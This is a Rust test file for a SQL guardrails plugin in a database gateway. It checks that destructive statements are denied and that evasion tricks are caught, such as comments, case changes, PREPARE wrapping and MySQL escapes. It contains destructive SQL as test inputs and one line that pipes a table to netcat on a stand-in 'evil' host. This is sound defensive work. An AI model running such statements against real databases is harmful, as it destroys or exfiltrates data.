//! End-to-end decisions on query texts, natively: config JSON in, verdict
//! out, through the same path as the hook.

use super::*;
use gatehouse_sdk::parse_config;

const ALL_CLASSES: &str = r#"["drop","truncate","alter","grant","revoke",
    "delete-without-where","update-without-where","copy-program",
    "create-or-replace","role-management"]"#;

fn plugin(json: &str) -> Guardrails {
    let config: Config = parse_config(json).unwrap();
    config.validate().unwrap();
    Guardrails::new(config).unwrap()
}

fn dba() -> Guardrails {
    plugin(&format!(r#"{{"deny_statements": {ALL_CLASSES}}}"#))
}

fn strict_dba() -> Guardrails {
    plugin(&format!(
        r#"{{"deny_statements": {ALL_CLASSES}, "strict": true}}"#
    ))
}

#[track_caller]
fn allowed(plugin: &Guardrails, sql: &str) {
    if let Err(reason) = plugin.check(SqlDialect::Postgres, sql) {
        panic!("expected {sql:?} to be allowed, denied: {reason}");
    }
}

#[track_caller]
fn denied(plugin: &Guardrails, sql: &str) -> String {
    match plugin.check(SqlDialect::Postgres, sql) {
        Ok(()) => panic!("expected {sql:?} to be denied, allowed"),
        Err(reason) => reason,
    }
}

#[test]
fn words_in_strings_are_not_statements() {
    let p = dba();
    allowed(&p, "select 'drop table'");
    allowed(&p, "select 'drop table x; truncate y' as note");
    allowed(&p, "select $$drop table x$$");
    allowed(&p, "select 1 -- drop table x");
    allowed(&p, "select 1 /* ; drop table x; */");
    allowed(&p, r#"select "drop" from t"#);
}

#[test]
fn case_comments_and_whitespace_do_not_hide_a_statement() {
    let p = dba();
    let reason = denied(&p, "DrOp/**/TABLE x");
    assert_eq!(
        reason,
        "guardrails: DROP statements are not allowed on this connection (statement 1)"
    );
    denied(&p, "drop\n\ttable\n x");
    denied(&p, "/* hello */ drop -- comment\n table x");
    denied(&p, "  DROP TABLE \"Mixed Case\"  ");
    denied(&p, "drop table x;");
}

#[test]
fn multi_statement_denied_if_any_is() {
    let p = dba();
    let reason = denied(&p, "select 1; drop table t");
    assert_eq!(
        reason,
        "guardrails: DROP statements are not allowed on this connection (statement 2)"
    );
    let reason = denied(&p, "select 1;; select 2; truncate t; drop table u");
    assert!(
        reason.contains("TRUNCATE") && reason.contains("(statement 3)"),
        "{reason}"
    );
    allowed(&p, "select 1; select 2;");
}

#[test]
fn one_unparseable_statement_does_not_hide_another() {
    let p = dba();
    // The first statement is gibberish; the second still counts.
    let reason = denied(&p, "frobnicate the database; drop table t");
    assert!(reason.ends_with("(statement 2)"), "{reason}");
}

#[test]
fn delete_and_update_with_and_without_where() {
    let p = dba();
    assert_eq!(
        denied(&p, "delete from accounts"),
        "guardrails: DELETE without a WHERE clause is not allowed on this connection (statement 1)"
    );
    assert_eq!(
        denied(&p, "UPDATE accounts SET balance = 0"),
        "guardrails: UPDATE without a WHERE clause is not allowed on this connection (statement 1)"
    );
    denied(&p, "delete from accounts where 1 = 1");
    denied(&p, "update accounts set balance = 0 where true");
    allowed(&p, "delete from accounts where id = 42");
    allowed(&p, "update accounts set balance = 0 where id = $1");
    denied(
        &p,
        "with d as (delete from accounts returning *) select count(*) from d",
    );
}

#[test]
fn only_configured_classes_are_denied() {
    let p = plugin(r#"{"deny_statements": ["delete-without-where"]}"#);
    allowed(&p, "drop table t");
    allowed(&p, "update t set a = 1");
    denied(&p, "delete from t");
}

#[test]
fn prepare_and_explain_analyze_are_looked_through() {
    let p = dba();
    assert_eq!(
        denied(&p, "PREPARE wipe AS DELETE FROM accounts"),
        "guardrails: DELETE without a WHERE clause is not allowed on this connection (statement 1, inside PREPARE)"
    );
    allowed(
        &p,
        "prepare one (int) as delete from accounts where id = $1",
    );
    assert_eq!(
        denied(&p, "explain analyze update accounts set balance = 0"),
        "guardrails: UPDATE without a WHERE clause is not allowed on this connection (statement 1, inside EXPLAIN ANALYZE)"
    );
    denied(&p, "explain (analyze, buffers) delete from accounts");
    // EXPLAIN without ANALYZE does not run the statement.
    allowed(&p, "explain update accounts set balance = 0");
}

#[test]
fn grant_revoke_alter_truncate_copy_program() {
    let p = dba();
    assert!(denied(&p, "grant all on accounts to public").contains("GRANT statements"));
    assert!(denied(&p, "revoke select on accounts from bob").contains("REVOKE statements"));
    assert!(denied(&p, "alter table accounts drop column balance").contains("ALTER statements"));
    assert!(denied(&p, "truncate accounts").contains("TRUNCATE statements"));
    assert!(denied(&p, "copy accounts to program 'nc evil 1'").contains("PROGRAM"));
    allowed(&p, "copy accounts to stdout");
    assert!(denied(&p, "create or replace view v as select 1").contains("CREATE OR REPLACE"));
    assert!(denied(&p, "create role x superuser").contains("roles and users"));
}

#[test]
fn strict_denies_garbage_non_strict_allows_it() {
    let garbage = "this is not sql at all";
    allowed(&dba(), garbage);
    let reason = denied(&strict_dba(), garbage);
    assert!(
        reason.starts_with(
            "guardrails: the query could not be parsed as PostgreSQL SQL (statement 1)"
        ),
        "{reason}"
    );
    assert!(reason.contains("only allows SQL it can check"), "{reason}");

    // Untokenisable text (an unterminated string).
    allowed(&dba(), "select 'unterminated");
    assert!(denied(&strict_dba(), "select 'unterminated").contains("could not be parsed"));

    // Strict mode on its own, with no classes.
    let p = plugin(r#"{"strict": true}"#);
    allowed(&p, "drop table t");
    denied(&p, "select from where");
}

#[test]
fn strict_still_reports_the_class_of_a_parseable_statement_first() {
    let reason = denied(&strict_dba(), "drop table t; not sql");
    assert!(reason.contains("DROP statements"), "{reason}");
    let reason = denied(&strict_dba(), "select 1; not sql");
    assert!(
        reason.contains("could not be parsed") && reason.contains("(statement 2)"),
        "{reason}"
    );
}

#[test]
fn empty_text_is_allowed() {
    allowed(&strict_dba(), "");
    allowed(&strict_dba(), "  -- just a comment\n");
    allowed(&strict_dba(), ";");
}

#[test]
fn words_match_identifiers_not_strings_or_comments() {
    let p = plugin(r#"{"deny_words": ["pg_sleep", "Salary"]}"#);
    assert_eq!(
        denied(&p, "select PG_SLEEP(10)"),
        "guardrails: `pg_sleep` is not allowed on this connection (statement 1)"
    );
    denied(&p, "select pg_catalog.pg_sleep(1)");
    denied(&p, r#"select "pg_sleep"(1)"#);
    denied(&p, "select salary from emp");
    assert!(denied(&p, "select 1; select salary from emp").ends_with("(statement 2)"));
    allowed(&p, "select 'pg_sleep'");
    allowed(&p, "select 1 -- pg_sleep");
    allowed(&p, "select 1 /* salary */");
    allowed(&p, "select pg_sleeper, salary_band from emp");
    // Words apply to text that does not parse, strict or not.
    denied(&p, "frobnicate pg_sleep");
    // …and to text that does not tokenise, where literals count too.
    denied(&p, "select 'pg_sleep");
}

#[test]
fn patterns_match_raw_text_including_strings() {
    let p = plugin(r#"{"deny_patterns": ["(?i)password", "\\bssn\\b"]}"#);
    assert_eq!(
        denied(&p, "select 'PASSWORD' from t"),
        "guardrails: queries matching the pattern `(?i)password` are not allowed on this connection"
    );
    denied(&p, "select 1 -- ssn");
    denied(&p, "not even sql ssn");
    allowed(&p, "select ssns from t");
}

#[test]
fn custom_message_prefix() {
    let p = plugin(r#"{"deny_statements": ["drop"], "message": "Blocked by DBA policy"}"#);
    assert_eq!(
        denied(&p, "drop table t"),
        "Blocked by DBA policy: DROP statements are not allowed on this connection (statement 1)"
    );
}

#[test]
fn mysql_dialect() {
    let p = plugin(&format!(
        r#"{{"deny_statements": {ALL_CLASSES}, "deny_words": ["sleep"], "strict": true}}"#
    ));
    let mysql = |sql: &str| p.check(SqlDialect::MySql, sql);
    assert!(mysql("DROP TABLE `orders`").unwrap_err().contains("DROP"));
    assert!(mysql("drop table `drop table`").is_err());
    assert!(mysql("select `drop table` from t").is_ok());
    assert!(mysql("select * from `order` where `delete` = 1").is_ok());
    assert!(
        mysql("delete from `t`")
            .unwrap_err()
            .contains("DELETE without")
    );
    assert!(
        mysql("delete from `t` limit 10")
            .unwrap_err()
            .contains("DELETE without")
    );
    assert!(mysql("# comment\nselect 1").is_ok());
    assert!(mysql("select 1 # drop table t").is_ok());
    assert!(mysql("select `sleep`(5)").unwrap_err().contains("`sleep`"));
    assert!(
        mysql("select \"sleep\"").is_ok(),
        "double quotes are strings in MySQL"
    );
    assert!(mysql("rename table a to b").unwrap_err().contains("ALTER"));
    // MySQL's PREPARE … FROM '<sql>' runs the quoted SQL.
    let reason = mysql("PREPARE s FROM 'DROP TABLE t'").unwrap_err();
    assert!(
        reason.contains("DROP") && reason.contains("inside PREPARE"),
        "{reason}"
    );
    assert!(
        mysql("prepare s from 'select sleep(5)'")
            .unwrap_err()
            .contains("`sleep`")
    );
    assert!(mysql("prepare s from 'select * from t where id = ?'").is_ok());
}

#[test]
fn dialect_follows_connection_kind() {
    assert_eq!(
        Guardrails::dialect_for(ConnectionKind::Postgres),
        SqlDialect::Postgres
    );
    assert_eq!(
        Guardrails::dialect_for(ConnectionKind::Mysql),
        SqlDialect::MySql
    );
    assert_eq!(
        Guardrails::dialect_for(ConnectionKind::Tcp),
        SqlDialect::Generic
    );
    assert_eq!(
        Guardrails::dialect_for(ConnectionKind::Http),
        SqlDialect::Generic
    );
}

#[test]
fn deep_nesting_fails_safely() {
    let deep = format!("select {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    allowed(&dba(), &deep);
    assert!(denied(&strict_dba(), &deep).contains("recursion limit"));
    // …and does not hide a statement after it.
    denied(&dba(), &format!("{deep}; drop table t"));
}

#[test]
fn rules_are_built_lazily() {
    let p = plugin(r#"{"deny_patterns": ["x"]}"#);
    assert!(p.compiled.get().is_none(), "new must not compile");
    allowed(&p, "select 1");
    assert!(p.compiled.get().is_some());
}

#[test]
fn rules_that_fail_to_build_deny() {
    // Bypasses validation, as a config changed underneath would.
    let config: Config = parse_config(r#"{"deny_patterns": ["("]}"#).unwrap();
    let p = Guardrails::new(config).unwrap();
    let reason = denied(&p, "select 1");
    assert!(reason.contains("rules could not be built") && reason.contains("deny_patterns[0]"));
}

#[test]
fn hook_turns_decisions_into_verdicts() {
    use gatehouse_sdk::{Connection, Identity, QueryProtocol, SessionVerb};
    let session = |kind| Session {
        id: "s1".into(),
        client_address: "127.0.0.1:5000".into(),
        verb: SessionVerb::Connect,
        identity: Identity {
            user_id: "u1".into(),
            email: "ada@example.com".into(),
            groups: vec![],
            role: Role::User,
        },
        connection: Connection {
            name: "billing".into(),
            kind,
            resource_name: "billing-db".into(),
            attributes: vec![],
        },
        started_at: 0,
    };
    let query = |text: &str| Query {
        id: 1,
        text: text.into(),
        protocol: QueryProtocol::Simple,
        parameters: vec![],
    };
    let mut p = dba();
    assert!(matches!(
        p.on_query(&session(ConnectionKind::Postgres), &query("select 1")),
        QueryVerdict::Allow
    ));
    match p.on_query(&session(ConnectionKind::Mysql), &query("drop table `t`")) {
        QueryVerdict::Deny(reason) => assert!(reason.contains("DROP"), "{reason}"),
        _ => panic!("expected a deny"),
    }
}

/// Tokenisations and parses done on this thread while running `f`.
fn work<T>(f: impl FnOnce() -> T) -> (T, (usize, usize)) {
    let (tokenized, parsed) = decide::counters::get();
    let value = f();
    let (t, p) = decide::counters::get();
    (value, (t - tokenized, p - parsed))
}

const INVOICES: &str = "SELECT id, email, total FROM invoices WHERE customer_id = $1 \
                        AND status = 'open' ORDER BY id LIMIT 50";

#[test]
fn keyword_free_query_is_allowed_without_tokenising_or_parsing() {
    let p = plugin(r#"{"deny_statements": ["drop", "truncate", "delete-without-where"]}"#);
    let (result, done) = work(|| p.check(SqlDialect::Postgres, INVOICES));
    assert_eq!(result, Ok(()));
    assert_eq!(done, (0, 0), "(tokenised, parsed)");
    // Every class configured: still no keyword of any.
    let p = dba();
    assert_eq!(work(|| allowed(&p, INVOICES)).1, (0, 0));
    // Unparseable text without keywords is not even looked at.
    assert_eq!(work(|| allowed(&p, "this is not sql at all")).1, (0, 0));
    assert_eq!(work(|| allowed(&p, "select 'unterminated")).1, (0, 0));
    let needs = |sql| {
        p.compiled
            .get()
            .unwrap()
            .as_ref()
            .unwrap()
            .prefilter
            .needs_parse(sql)
    };
    assert!(!needs(INVOICES));
    assert!(needs("select 1; DROP table t"));
}

#[test]
fn keywords_anywhere_still_get_the_full_check() {
    let p = dba();
    let (reason, (_, parsed)) = work(|| denied(&p, "DrOp/**/TABLE x"));
    assert!(reason.contains("DROP") && parsed > 0, "{reason}");
    let (reason, (_, parsed)) = work(|| denied(&p, "select 1; drop table t"));
    assert!(reason.ends_with("(statement 2)") && parsed > 0, "{reason}");
    // Keywords only in strings and comments: parsed, and allowed.
    for sql in [
        "select 'drop table'",
        "select 1 -- truncate t",
        "select 1 /* delete from t */",
        "select $$update t set a = 1$$",
        r#"select "drop" from t"#,
    ] {
        let ((), (_, parsed)) = work(|| allowed(&p, sql));
        assert!(parsed > 0, "{sql} was not parsed");
    }
}

#[test]
fn strict_mode_always_parses() {
    let garbage = "this is not sql at all";
    let (reason, (_, parsed)) = work(|| denied(&strict_dba(), garbage));
    assert!(
        reason.contains("could not be parsed") && parsed > 0,
        "{reason}"
    );
    assert_eq!(work(|| allowed(&dba(), garbage)).1, (0, 0));
    let (_, (_, parsed)) = work(|| allowed(&strict_dba(), INVOICES));
    assert!(parsed > 0);
    let strict_alone = plugin(r#"{"strict": true}"#);
    assert!(denied(&strict_alone, garbage).contains("could not be parsed"));
}

#[test]
fn words_skip_the_tokenizer_only_when_absent() {
    let p = plugin(r#"{"deny_words": ["pg_sleep"]}"#);
    assert_eq!(work(|| allowed(&p, INVOICES)).1, (0, 0));
    // Present in a string: tokenised (then allowed), never parsed.
    assert_eq!(work(|| allowed(&p, "select 'pg_sleep'")).1, (1, 0));
    denied(&p, "select PG_SLEEP(1)");
    // The Kelvin sign lowercases to `k`.
    let p = plugin(r#"{"deny_words": ["kill"]}"#);
    denied(&p, "select \u{212A}ILL(1)");
    allowed(&p, "select 'café'");
}

#[test]
fn mysql_prepare_from_escapes_cannot_hide_a_keyword() {
    let p = plugin(r#"{"deny_statements": ["drop"], "deny_words": ["sleep"]}"#);
    let mysql = |sql: &str| p.check(SqlDialect::MySql, sql);
    // MySQL unescapes `\O` to `O`: the raw text has no `drop`.
    let reason = mysql(r"PREPARE s FROM 'DR\OP TABLE t'").unwrap_err();
    assert!(
        reason.contains("DROP") && reason.contains("inside PREPARE"),
        "{reason}"
    );
    let reason = mysql(r"prepare s from 'select sl\eep(5)'").unwrap_err();
    assert!(reason.contains("`sleep`"), "{reason}");
    assert!(mysql(r"prepare s from 'select \'x\''").is_ok());
}

/// The fast path never changes a decision: every query of a corpus gets the
/// same answer with and without it, in every dialect, for many configs.
/// Texts of every kind the checks tell apart.
const CORPUS: &[&str] = &[
    "",
    ";",
    "select 1",
    INVOICES,
    "this is not sql at all",
    "select 'unterminated",
    "select 'drop table'",
    "DrOp/**/TABLE x",
    "select 1; drop table t",
    "frobnicate the database; drop table t",
    "drop table t; not sql",
    "select 1; not sql",
    "truncate t",
    "TRUNCATE TABLE a, b",
    "alter table t add column c int",
    "rename table a to b",
    "alter role r superuser",
    "alter user u rename to v",
    "grant select on t to bob",
    "deny select on t to bob",
    "revoke select on t from bob",
    "alter default privileges in schema s grant select on tables to bob",
    "delete from t",
    "delete from t where id = 1",
    "delete from t where 1 = 1",
    "update t set a = 1",
    "update t set a = 1 where id = $1",
    "with d as (delete from t returning *) select * from d",
    "insert into log with u as (update t set a = 1 returning *) select * from u",
    "prepare p as delete from t",
    "PREPARE s FROM 'DROP TABLE t'",
    r"PREPARE s FROM 'DR\OP TABLE t'",
    r"prepare s from 'select pg_sl\eep(5)'",
    "explain analyze delete from t",
    "explain delete from t",
    "copy t to program 'cat'",
    "copy (select 1) to program 'cat'",
    "copy t to stdout",
    "create or replace view v as select 1",
    "create or alter view v as select 1",
    "create view v as select 1",
    "create role r",
    "create user u",
    "create group g",
    "drop role r",
    "drop user u",
    "select * from users group by role",
    "select replace(created_at, 'a', 'b') from programs",
    "select pg_sleep(1)",
    "select \"pg_sleep\"(1)",
    "select `pg_sleep`(1)",
    "select 'pg_sleep'",
    "select pg_sleep(1",
    "select \u{212A}ILL(1)",
    "select 'Password' from t",
    "select password from t",
];

/// Configs of every kind: each class, words the scan can and cannot vouch
/// for, patterns, strict mode.
fn configs() -> impl Iterator<Item = String> {
    [
        "{}".to_string(),
        r#"{"strict": true}"#.to_string(),
        r#"{"deny_words": ["pg_sleep", "KILL"]}"#.to_string(),
        r#"{"deny_words": ["pg_sleep", "straße"]}"#.to_string(),
        r#"{"deny_patterns": ["(?i)\\bpassword\\b"]}"#.to_string(),
        format!(r#"{{"deny_statements": {ALL_CLASSES}}}"#),
        format!(r#"{{"deny_statements": {ALL_CLASSES}, "strict": true}}"#),
        format!(
            r#"{{"deny_statements": {ALL_CLASSES}, "deny_words": ["pg_sleep", "kill"],
            "deny_patterns": ["(?i)\\bpassword\\b"]}}"#
        ),
    ]
    .into_iter()
    .chain(
        StatementClass::ALL
            .iter()
            .map(|class| format!(r#"{{"deny_statements": ["{class}"]}}"#)),
    )
    .chain(
        StatementClass::ALL
            .iter()
            .map(|class| format!(r#"{{"deny_statements": ["{class}"], "deny_words": ["sleep"]}}"#)),
    )
}

#[test]
fn prefilter_agrees_with_the_full_check() {
    let corpus = CORPUS;
    let configs = configs();
    let dialects = [SqlDialect::Postgres, SqlDialect::MySql, SqlDialect::Generic];
    for json in configs {
        let config: Config = parse_config(&json).unwrap();
        let rules = Compiled::new(&config).unwrap();
        for dialect in dialects {
            for sql in corpus {
                assert_eq!(
                    decide(&config, &rules, dialect, sql),
                    decide::decide_without_prefilter(&config, &rules, dialect, sql),
                    "{sql:?} with {json} in {dialect:?}"
                );
            }
        }
    }
}

/// The host's query filter stands in for the plugin only where the plugin
/// would allow: a text holding none of the keywords (any ASCII case) is
/// allowed by `check`, for every config, dialect and text of the corpus.
#[test]
fn host_query_filter_skips_only_texts_the_checks_allow() {
    let dialects = [SqlDialect::Postgres, SqlDialect::MySql, SqlDialect::Generic];
    let mut skipped = 0;
    for json in configs() {
        let guardrails = plugin(&json);
        let Some(keywords) = guardrails.query_keywords() else {
            continue;
        };
        // The host's own filter, as the gateway builds it.
        let filter = gatehouse_sdk::harness::QueryFilter::new(keywords.clone())
            .unwrap_or_else(|e| panic!("the host refuses {keywords:?} of {json}: {e}"));
        for dialect in dialects {
            for sql in CORPUS {
                if !filter.needs_call(sql) {
                    skipped += 1;
                    assert!(
                        guardrails.check(dialect, sql).is_ok(),
                        "{sql:?} skipped by the host with {json} in {dialect:?} ({keywords:?})"
                    );
                }
            }
        }
    }
    assert!(
        skipped > 100,
        "only {skipped} texts were skipped: the test checks too little"
    );
}

#[test]
fn query_keywords_only_where_a_scan_can_vouch() {
    let keywords = |json: &str| plugin(json).query_keywords();
    assert_eq!(
        keywords("{}"),
        Some(vec![]),
        "nothing configured: no query needs a call"
    );
    assert_eq!(
        keywords(r#"{"deny_statements": ["drop", "truncate"]}"#),
        Some(vec!["drop".into(), "truncate".into(), "prepare".into()])
    );
    assert_eq!(
        keywords(r#"{"deny_words": ["pg_sleep"]}"#),
        Some(vec!["pg_sleep".into(), "prepare".into()])
    );
    assert_eq!(
        keywords(r#"{"strict": true}"#),
        None,
        "strict parses every text"
    );
    assert_eq!(
        keywords(r#"{"deny_patterns": ["x"]}"#),
        None,
        "patterns see every text"
    );
    assert_eq!(
        keywords(r#"{"deny_words": ["straße"]}"#),
        None,
        "a word the scan cannot vouch for"
    );
    assert_eq!(
        keywords(r#"{"deny_words": ["kill"]}"#),
        None,
        "the Kelvin sign spells k"
    );
}
